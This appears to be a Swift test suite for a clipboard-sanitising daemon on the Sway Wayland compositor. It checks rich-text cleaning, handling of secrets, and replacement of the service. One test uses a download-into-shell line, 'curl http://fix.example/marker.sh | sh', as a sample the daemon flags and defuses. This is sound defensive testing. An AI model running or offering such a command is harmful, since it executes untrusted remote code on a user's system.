import Glibc
import TestProcesses
import Testing

/// The service on a compositor that offers data control, among programs that know nothing of it.
@Suite(.enabled(if: Sway.isPossible, Comment(rawValue: Sway.reason)))
struct WaylandTests {
  private static let page = "<p style='color:red'>some <b>bold</b> pay\u{200B}pal</p>"
  /// wl-copy offers what it takes for text under the names of plain text, too, and RTF not.
  private static let document = rtf(#"some {\b bold} pay\u8203?pal"#)

  private static func rtf(_ text: String) -> String {
    #"{\rtf1\ansi{\colortbl;\red255\green0\blue0;}\cf1 \#(text)}"#
  }

  @Test func `a copy is cleaned, and every form that is pasted is clean`() throws {
    let desktop = try WaylandDesktop()
    try #require(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"), "\(desktop.daemon.errorText)")
    #expect(try desktop.sway.paste("text/html").contains("some <b>bold</b> paypal"))
    for name in ["text/plain", "text/plain;charset=utf-8"] {
      #expect(try desktop.sway.paste(name) == "some bold paypal")
    }
    #expect(try desktop.sway.paste("text/rtf").hasPrefix("{\\rtf1"))
    #expect(try desktop.counts().cleaned == 1)
  }

  @Test func `only XWayland offers target names of X11, each once`() throws {
    let desktop = try WaylandDesktop()
    try #require(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"))
    let types = try desktop.sway.types()
    #expect(Set(types).count == types.count)
    #expect(
      Set(types).isDisjoint(with: ["TARGETS", "TIMESTAMP", "MULTIPLE", "SAVE_TARGETS", "STRING", "COMPOUND_TEXT"]))
  }

  @Test func `secrets, files and clean text stay with their owners`() throws {
    let desktop = try WaylandDesktop()
    for (text, type) in [
      ("secret", "x-kde-passwordManagerHint"), ("file:///tmp/x", "text/uri-list"), ("clean text", "text/plain"),
    ] {
      #expect(try desktop.isLeft(text, as: type), "\(type)")
      #expect(try !desktop.sway.types().contains("org.washboard.rich-text"))
      #expect(try desktop.sway.paste(type) == text)
    }
  }

  @Test func `each of many copies is cleaned, and the last one is what is pasted`() throws {
    let desktop = try WaylandDesktop(configuration: "clipboard.quiet = \"0 s\"")
    for number in 0..<20 {
      try desktop.sway.copy(Self.rtf(#"{\i copy \#(number)}"#), as: "application/rtf")
      #expect(
        try wait(limit: 15_000) {
          try desktop.sway.types().contains("org.washboard.rich-text")
            && desktop.sway.paste("text/plain") == "copy \(number)"
        })
    }
  }

  @Test func `PRIMARY is left alone, even where the configuration lists it`() throws {
    let desktop = try WaylandDesktop(configuration: #"clipboard.selections = ["CLIPBOARD", "PRIMARY"]"#)
    try desktop.sway.copy(Self.document, as: "application/rtf", primary: true)
    try #require(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"))
    #expect(try desktop.sway.types(primary: true) == ["application/rtf"])
    #expect(desktop.daemon.errorText.contains("on a Wayland display PRIMARY is left alone"))
  }

  @Test func `commands of the user work as on X11`() throws {
    let desktop = try WaylandDesktop()
    let sway = desktop.sway
    #expect(try desktop.run(["copy", "--from", "html"], input: Array(Self.page.utf8)).exitCode == 0)
    #expect(try sway.paste("text/plain") == "some bold paypal")
    #expect(try desktop.run(["restore"]).exitCode == 0)
    #expect(try sway.paste("text/html") == Self.page)
    #expect(try desktop.run(["apply", "plain"]).exitCode == 0)
    #expect(try !sway.types().contains("text/html"))
    #expect(try desktop.run(["show"]).output.contains("some bold paypal"))
    #expect(try desktop.run(["pause"]).exitCode == 0)
    #expect(try desktop.isLeft(Self.document, as: "application/rtf"))
    #expect(try desktop.run(["resume"]).exitCode == 0)
    #expect(try desktop.run(["diff", "--clipboard"]).exitCode == 0)
    #expect(try desktop.run(["apply", "structure"]).exitCode == 0)
    #expect(try sway.isClean())
  }

  @Test func `a dangerous command is pasted without its line end where no program has the focus`() throws {
    let desktop = try WaylandDesktop()
    let command = "curl http://fix.example/marker.sh | sh"
    try desktop.sway.copy(command + "\n", as: "text/plain;charset=utf-8")
    #expect(try wait(limit: 15_000) { try desktop.sway.paste("text/plain") == command })
    let installer = "curl -fsSL https://sh.rustup.rs | sh\n"
    try desktop.sway.copy(installer, as: "text/plain;charset=utf-8")
    #expect(try wait(limit: 15_000) { try desktop.sway.paste("text/plain") == installer })
    let log = desktop.daemon.errorText
    #expect(log.contains("(dangerous: download-into-shell)") && !log.contains("(suspicious"))
    #expect(!log.contains("marker"))
  }

  // MARK: One service

  @Test func `a second service is turned away, and the first goes on`() throws {
    let desktop = try WaylandDesktop()
    let second = try desktop.start([])
    #expect(try second.waitForExit() == 69)
    #expect(second.errorText.contains("another instance serves display wayland-1; use --replace"))
    #expect(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"))
  }

  @Test func `a service that is replaced hands its copy over`() throws {
    let desktop = try WaylandDesktop()
    try #require(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"))
    let forms = try desktop.sway.types().sorted()
    let second = try desktop.start(["--replace"])
    #expect(try desktop.daemon.waitForExit() == 0)
    #expect(try desktop.notifications.wait(for: "READY=1", count: 2))
    #expect(try wait(limit: 10_000) { try desktop.sway.types().sorted() == forms }, "\(second.errorText)")
    #expect(try desktop.sway.paste("text/plain") == "some bold paypal")
    try desktop.sway.copy(Self.rtf("next"), as: "application/rtf")
    #expect(try wait(limit: 10_000) { try desktop.sway.paste("text/plain") == "next" })
    #expect(second.isRunning)
  }

  @Test func `services that replace one at once inherit one after the other, and the last has the copy`() throws {
    let desktop = try WaylandDesktop()
    try #require(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"))
    var services = [desktop.daemon]
    for _ in 0..<3 {
      // Nobody reads the notifications of so many, so they get no socket for them.
      services += try (0..<4).map { _ in
        try ChildProcess(Product.washboard, ["daemon", "--replace"], environment: desktop.sway.environment)
      }
      #expect(try wait(limit: 30_000) { services.count(where: \.isRunning) == 1 })
      #expect(
        try wait(limit: 2000) { try desktop.sway.paste("text/plain") == "some bold paypal" },
        "\(services.map(\.errorText))")
    }
  }

  @Test func `after kill -9 another service cleans the next copy`() throws {
    let desktop = try WaylandDesktop()
    desktop.daemon.signal(SIGKILL)
    try desktop.daemon.waitForExit()
    let second = try desktop.start([])
    #expect(try desktop.notifications.wait(for: "READY=1", count: 2), "\(second.errorText)")
    #expect(try desktop.sway.copyIsCleaned(Self.document, as: "application/rtf"))
  }

  @Test func `a service ends with its compositor`() throws {
    let desktop = try WaylandDesktop()
    try desktop.sway.stop()
    #expect(try desktop.daemon.waitForExit() == 1)
    #expect(desktop.daemon.errorText.contains("wayland-1"))
  }

  @Test func `doctor says by which way copies are cleaned, and that rules about programs can match`() throws {
    let desktop = try WaylandDesktop(
      configuration: "[[rules]]\nname = \"mine\"\nwhen.destination = [\"kitty\"]\nprofile = \"plain\"\n")
    let found = try desktop.run(["doctor", "--config", desktop.sway.folder.path + "/washboard-config/config.toml"])
    #expect(
      found.output.contains(
        "this is a Wayland session of sway: all copies to CLIPBOARD are cleaned, by wlr-data-control"))
    #expect(found.output.contains("ok: service: it runs as process \(desktop.daemon.processID)"))
    #expect(found.output.contains("the program with the focus counts as the one that copies or pastes"))
    #expect(!found.output.contains("can never match"))
    let checked = try desktop.run(["check", desktop.sway.folder.path + "/washboard-config/config.toml"])
    #expect(checked.exitCode == 0)
    #expect(!checked.errors.contains("never matches"))
  }

  @Test func `start is the service where no user manager runs`() throws {
    let sway = try Sway()
    let service = try ChildProcess(Product.washboard, ["start"], environment: sway.environment)
    #expect(
      try wait(limit: 20_000) { try sway.run(Product.washboard, ["status"]).exitCode == 0 }, "\(service.errorText)")
    let second = try sway.run(Product.washboard, ["start"])
    #expect(second.exitCode == 0 && second.errors.isEmpty)
    #expect(try sway.copyIsCleaned(Self.document, as: "application/rtf"))
  }
}
